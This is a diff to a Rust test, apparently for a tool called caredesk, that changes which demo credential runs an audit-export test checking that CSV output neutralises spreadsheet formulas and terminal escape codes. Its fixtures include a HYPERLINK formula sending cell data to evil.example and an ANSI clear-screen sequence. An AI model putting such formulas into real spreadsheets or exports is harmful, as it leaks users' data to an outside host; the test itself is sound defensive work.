@@ -10,7 +10,7 @@ use crate::common::*;
 
 const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&B2,\"Click me\")";
 const ESCAPE: &str = "mallory\u{1b}[2Jx";
-const ADMIN: (&str, &str) = ("admin", "demo chief harbour lantern");
+const SECURITY: (&str, &str) = ("zhao.an", "demo security harbour lantern");
 const AUDITOR: (&str, &str) = ("he.audit", "demo auditor harbour lantern");
 
 #[test]
@@ -31,7 +31,7 @@ fn formula_and_escape_sequences_are_neutralised_in_audit_exports() {
     let seal = run_caredesk(
         Some(&dir),
         &["audit", "rotate-epoch", "--reason", &reason],
-        &credentials(ADMIN),
+        &credentials(SECURITY),
     );
     assert!(seal.status.success(), "{}", text(&seal.stderr));
     let csv_out = run_caredesk(
